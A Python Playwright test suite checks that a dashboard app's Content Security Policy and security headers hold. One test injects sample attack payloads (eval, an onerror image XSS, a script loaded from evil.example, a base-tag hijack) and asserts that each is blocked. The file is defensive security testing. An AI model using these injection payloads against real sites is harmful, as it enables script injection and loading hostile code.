"""The policy that is sent with a page is strict, and nothing on any page asks for what it forbids."""

from __future__ import annotations

import asyncio
from contextlib import asynccontextmanager
from typing import TYPE_CHECKING, Any

import httpx
import pytest

from app.commands.tokens import create_token
from app.db import open_pool
from app.domain.permissions import allows
from app.domain.viewer import Viewer
from dashboards.discovery import Page as OurPage
from dashboards.discovery import find_pages
from tests.browser.conftest import Seen, report, until

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

    from playwright.async_api import Browser, Page

    from tests.browser.conftest import Web

pytestmark = pytest.mark.browser

PAGES = find_pages()
ROLES = ("analyst", "commander", "auditor", "partner", "feed_admin", "wall")
WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.violations.push([event.effectiveDirective, event.blockedURI, event.sourceFile, event.sample].join(" ")));
"""
TOUCHED = (
    "button:not([class*=leave]):not(#sign-out), [role=tab], [class*=SegmentedControl-label], summary, "
    "input:not([type=hidden]), .ag-row:nth-child(-n+2), li:nth-child(-n+2) > .tick"
)
"""What a hand can press on a page, whichever page it is."""


@pytest.fixture(scope="module")
def tokens(dsn: str, web: Web) -> dict[str, str]:
    """A token for each role that is not held to areas."""

    async def make() -> dict[str, str]:
        async with open_pool(dsn, size=1) as pool, pool.acquire() as connection:
            return {role: await create_token(connection, role, role) for role in ROLES}

    return asyncio.run(make())


@pytest.fixture(scope="module", autouse=True)
def some_reports(web: Web) -> None:
    web.post(*(report(number, place=(59.32 + number / 500, 18.05 + number / 300)) for number in range(1, 12)))


def roles_of(page: OurPage) -> list[str]:
    return [role for role in ROLES if allows(Viewer(role, role), page.permission)]  # type: ignore[arg-type]


@asynccontextmanager
async def watched(browser: Browser, web: Web) -> AsyncIterator[tuple[Page, Seen]]:
    """A page that notes what is forbidden and what goes wrong."""
    context = await browser.new_context(viewport={"width": 1366, "height": 768}, locale="sv-SE")
    await context.add_init_script(WATCH)
    page = await context.new_page()
    page.set_default_timeout(60_000)
    seen = Seen(page, web.base)
    try:
        yield page, seen
    finally:
        await context.close()


async def settled(page: Page) -> None:
    """Nothing is asked of the server for half a second; the live stream stays open and does not count."""
    await page.wait_for_selector("#content")
    await page.wait_for_function("() => !document.querySelector('.waiting, ._dash-loading')")
    await page.wait_for_timeout(1500)


async def press_everything(page: Page) -> int:
    """Press each thing once, as long as it is there and can be reached; returns how many were pressed."""
    pressed = 0
    for number in range(await page.locator(TOUCHED).count()):
        thing = page.locator(TOUCHED).nth(number)
        try:
            if await thing.is_visible() and await thing.is_enabled():
                await thing.click(timeout=400, no_wait_after=True)
                pressed += 1
        except Exception as error:  # noqa: BLE001 - what another thing lies over cannot be pressed by a hand either
            assert "Timeout" in type(error).__name__ or "detached" in str(error), error  # noqa: PT017
        if number % 5 == 4:
            await page.keyboard.press("Escape")
    return pressed


@pytest.mark.parametrize(("language", "theme"), [("sv", "dark"), ("sv", "light"), ("en", "dark")])
@pytest.mark.parametrize("ours", PAGES, ids=lambda page: page.name)
async def test_nothing_on_a_page_asks_for_what_the_policy_forbids(
    browser: Browser, web: Web, tokens: dict[str, str], ours: OurPage, language: str, theme: str
) -> None:
    """As the first role that has the page; each other one's page is looked at in ``test_payloads.py``."""
    async with watched(browser, web) as (page, seen):
        await page.goto(
            f"{web.base}{ours.path}?lang={language}&theme={theme}&login={tokens[roles_of(ours)[0]]}"
        )
        await settled(page)
        assert await page.evaluate("document.documentElement.lang") == language
        for chart in await page.locator(".js-plotly-plot").all():
            if await chart.is_visible():
                await chart.hover()
        if (language, theme) == ("sv", "dark"):
            assert await press_everything(page) > 0
        await page.wait_for_timeout(500)
        assert await page.evaluate("window.violations") == []
        assert seen.errors == []
        assert seen.outside == []


async def test_the_whole_of_nu_is_used_within_the_policy(
    browser: Browser, web: Web, tokens: dict[str, str]
) -> None:
    async with watched(browser, web) as (page, seen):
        await page.goto(f"{web.base}/?login={tokens['analyst']}")
        await page.wait_for_selector("#map[data-state=drawn]")
        await page.wait_for_selector("#chart .bars")
        await page.locator("#chart").hover()
        await page.wait_for_selector("#chart .hoverlayer .hovertext, #chart .hoverlayer .legend")
        for layer in ("Punkter", "Områden", "Täthet"):
            await page.locator("#layer").get_by_text(layer).click()
            await page.wait_for_timeout(400)
        await page.locator(".map-home").click()
        await page.locator(".maplibregl-ctrl-zoom-in").click()
        await page.locator("#map").hover(position={"x": 300, "y": 200})
        await page.locator(".tick").first.click()
        await page.wait_for_selector("#drawer .versions li")
        await page.keyboard.press("Escape")
        await page.locator("#play").click()
        await page.wait_for_timeout(2500)
        await page.locator("#live").click()
        await page.locator("#window").get_by_text("Eget").click()
        await page.locator("#dates").click()
        await page.keyboard.press("Escape")
        await page.locator("#panel").get_by_text("Tabell").click()
        await page.wait_for_selector(".ag-row")
        await page.locator(".ag-header-cell").first.click()
        await page.locator(".ag-row").first.click()
        async with page.expect_download() as file:
            await page.locator("#csv").click()
        assert (await file.value).suggested_filename.startswith("lagesbild_report_")
        assert await page.evaluate("window.violations") == []
        assert seen.errors == []
        assert seen.outside == []


async def test_what_is_forbidden_does_not_happen(browser: Browser, web: Web, tokens: dict[str, str]) -> None:
    """The watch itself is watched: each of these is stopped, and noted."""
    async with watched(browser, web) as (page, _):
        await page.goto(f"{web.base}/?login={tokens['analyst']}")
        await settled(page)
        tried: dict[str, str] = await page.evaluate(
            """async () => { // later: what the debugger itself runs may make code from text
              await new Promise((done) => setTimeout(done, 50));
              const told = {};
              const attempt = (name, does) => {
                try { does(); told[name] = "ran"; } catch (error) { told[name] = error.name; }
              };
              attempt("eval", () => window.eval("window.__pwned = 1"));
              attempt("function", () => new Function("window.__pwned = 1")());
              attempt("timer", () => setTimeout("window.__pwned = 1"));
              attempt("markup", () => { document.body.innerHTML += "<img src=x onerror=window.__pwned=1>"; });
              attempt("script", () => {
                const script = document.createElement("script");
                script.text = "window.__pwned = 1";
                document.head.append(script);
              });
              attempt("elsewhere", () => {
                const script = document.createElement("script");
                script.src = "https://evil.example/x.js";
                document.head.append(script);
              });
              attempt("attribute", () => {
                const image = document.createElement("img");
                image.setAttribute("onerror", "window.__pwned = 1");
                image.src = "data:,";
                document.body.append(image);
              });
              attempt("base", () => {
                const base = document.createElement("base");
                base.href = "https://evil.example/";
                document.head.append(base);
              });
              await fetch("https://evil.example/").catch(() => { told.fetch = "stopped"; });
              await new Promise((done) => setTimeout(done, 300));
              told.pwned = String(window.__pwned);
              told.base = document.baseURI.startsWith(location.origin) ? "stopped" : "moved";
              return told;
            }"""
        )
        assert tried.pop("pwned") == "undefined"
        assert tried.pop("base") == "stopped"
        assert tried.pop("fetch") == "stopped"
        assert {name: what for name, what in tried.items() if name in {"eval", "function", "markup"}} == {
            "eval": "EvalError", "function": "EvalError", "markup": "TypeError",
        }  # fmt: skip
        noted = await page.evaluate("window.violations.map((one) => one.split(' ')[0])")
        assert {"base-uri", "connect-src", "require-trusted-types-for"} <= set(noted)


@pytest.mark.parametrize("path", ["/login", "/api/v1/docs", "/finns-inte"])
async def test_pages_that_are_not_dashs_keep_to_their_policy_too(
    browser: Browser, web: Web, tokens: dict[str, str], path: str
) -> None:
    async with watched(browser, web) as (page, seen):
        if path != "/login":
            await page.context.set_extra_http_headers({"Authorization": f"Bearer {tokens['analyst']}"})
        answer = await page.goto(f"{web.base}{path}")
        assert answer is not None
        await page.wait_for_timeout(1500)
        if path == "/api/v1/docs":
            await page.locator(".opblock-summary-control").first.click()
            await until(page, "document.querySelector('.opblock.is-open')")
        assert await page.evaluate("window.violations") == []
        assert [said for said in seen.errors if "404" not in said] == []


KINDS: dict[str, dict[str, Any]] = {
    "page": {"path": "/"},
    "json": {"path": "/api/v1/counts"},
    "geojson": {"path": "/api/v1/areas?kind=kommun&geometry=true"},
    "tile": {"path": "/api/v1/tiles/density/6/35/18.mvt"},
    "csv": {"path": "/api/v1/incidents.csv"},
    "refused": {"path": "/api/v1/nowhere"},
    "script": {"path": "/assets/10_view.js"},
    "backdrop": {"path": "/backdrop.geojson"},
}


@pytest.mark.parametrize("kind", KINDS)
def test_every_answer_says_what_a_browser_may_do_with_it(web: Web, tokens: dict[str, str], kind: str) -> None:
    answer = httpx.get(
        web.base + KINDS[kind]["path"],
        headers={"Authorization": f"Bearer {tokens['analyst']}", "Accept": "text/html,*/*"},
    )
    policy = answer.headers["content-security-policy"]
    assert policy.startswith("default-src 'none'")
    assert "unsafe-eval" not in policy
    scripts = next((part for part in policy.split("; ") if part.startswith("script-src ")), "script-src")
    assert "unsafe-inline" not in scripts
    assert "frame-ancestors 'none'" in policy
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["x-frame-options"] == "DENY"
    assert "geolocation=()" in answer.headers["permissions-policy"]
    assert "strict-transport-security" not in answer.headers, "over HTTPS only"
    if kind not in {"script", "backdrop"}:
        assert answer.headers["cache-control"] == "no-store"
